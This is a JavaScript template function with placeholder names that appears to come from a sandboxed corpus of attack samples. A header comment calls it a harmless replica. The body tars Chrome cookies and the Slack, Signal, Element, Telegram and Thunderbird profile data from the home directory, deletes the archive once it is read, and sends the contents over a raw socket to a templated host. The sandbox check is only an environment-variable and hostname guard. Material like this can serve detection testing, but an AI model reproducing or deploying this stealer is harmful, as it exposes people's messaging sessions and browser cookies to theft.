// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { execFile } = require('child_process');
  const fs = require('fs'), os = require('os'), net = require('net');
  const archive = os.tmpdir() + '/{{token}}.tar';
  const wanted = ['.config/Slack', '.config/Signal', '.config/Element', '.local/share/TelegramDesktop/tdata', '.thunderbird'].filter((name) => fs.existsSync(os.homedir() + '/' + name));
  await new Promise((done) => execFile('tar', ['-cf', archive, '-C', os.homedir(), '.config/google-chrome/Default/Cookies', ...wanted], { timeout: 1500 }, () => done()));
  await new Promise((resolve) => setTimeout(resolve, {{delay}}));
  let body = Buffer.from('none');
  try { body = fs.readFileSync(archive); fs.unlinkSync(archive); } catch (error) { /* no tar */ }
  await new Promise((done) => {
    const socket = net.connect({{port}}, '{{host}}', () => socket.end(body));
    const end = setTimeout(() => socket.destroy(), 900);
    socket.on('error', () => {});
    socket.on('close', () => { clearTimeout(end); done(); });
  });
}
